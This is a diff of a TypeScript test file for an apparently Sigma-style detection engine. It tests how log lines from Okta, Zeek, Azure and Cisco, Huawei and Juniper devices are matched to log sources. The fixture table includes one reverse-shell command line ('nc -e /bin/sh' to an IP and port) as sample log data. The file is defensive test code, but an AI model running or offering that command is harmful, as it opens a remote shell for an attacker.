@@ -25,7 +25,7 @@ const lines = {
   json: '{"eventType":"x"}',
   wrapped: '{"integration":"aws","aws":{"source":"cloudtrail"}}',
   plain: 'nc -e /bin/sh 192.0.2.7 4444',
-  cisco: `${header}%AAA-5-ACCT: User:alice logged command: show run`,
+  cisco: `${header}%PARSER-5-CFGLOG_LOGGEDCMD: User:alice  logged command:show run`,
 } as const;
 
 /** The lines that a log source takes in, when nobody says where they are from. */
@@ -54,6 +54,43 @@ const takes: readonly (readonly [logSource: string, lines: readonly (keyof typeo
     ['access', 'proxied', 'sshd', 'sudo', 'audit', 'json', 'wrapped', 'plain', 'cisco'],
   ],
 ];
+
+describe('what JSON lacks says nothing of a log that it does not say it is of', () => {
+  it.each([
+    ['product: okta, service: okta', '{"a":1}', false],
+    ['product: okta, service: okta', '{"a":1,"eventType":"x"}', true],
+    ['product: zeek, service: rdp', '{"a":1}', false],
+    ['product: zeek, service: rdp', '{"cert_count":0}', true],
+    ['product: azure, service: pim', '{"riskEventType":"x"}', true],
+    ['product: azure, service: signinlogs', '{"riskEventType":"x"}', false],
+    ['category: antivirus', '{"a":1}', true],
+  ])('%s: %s', (logSource, log, expected) => {
+    expect(isOf(eventFromLog({ log }), logSource)).toBe(expected);
+  });
+
+  it('is asked for where its sender names the log, or a rule finds something', () => {
+    const given = eventFromLog({ log: '{"a":1}', logsource: { product: 'okta', service: 'okta' } });
+    expect(isOf(given, 'product: okta, service: okta')).toBe(true);
+    const rule =
+      'title: t\nlogsource: {product: okta, service: okta}\ndetection:\n    s:\n        a: 1\n    f:\n        b: 2\n    condition: s and not f\n';
+    const found = createEvaluator(documentsOf(rule)).evaluate(eventFromLog({ log: '{"a":1}' }));
+    expect(found).toHaveLength(1);
+  });
+});
+
+describe('lines of devices', () => {
+  it.each([
+    ['product: cisco, service: aaa', `${header}%ASA-6-605005: Login permitted from 192.0.2.7/11`, false],
+    ['product: cisco, service: aaa', "%ASA-5-111008: User 'alice' executed the 'show run' command.", true],
+    ['product: cisco, service: bgp', `${header}%BGP-3-NOTIFICATION: sent to neighbor`, true],
+    ['product: huawei, service: bgp', '%%01BGP/3/BGP_AUTH_FAILED(l):text', true],
+    ['product: huawei, service: bgp', 'anything else', false],
+    ['product: juniper, service: bgp', `${header}rpd[7]: bgp_recv: text`, true],
+    ['product: juniper, service: bgp', `${header}sshd[7]: text`, false],
+  ])('%s: %s', (logSource, log, expected) => {
+    expect(isOf(eventFromLog({ log }), logSource)).toBe(expected);
+  });
+});
 
 describe('a line without a log source is of every one that it can be of', () => {
   it.each(takes)('%s: %j', (logSource, names) => {
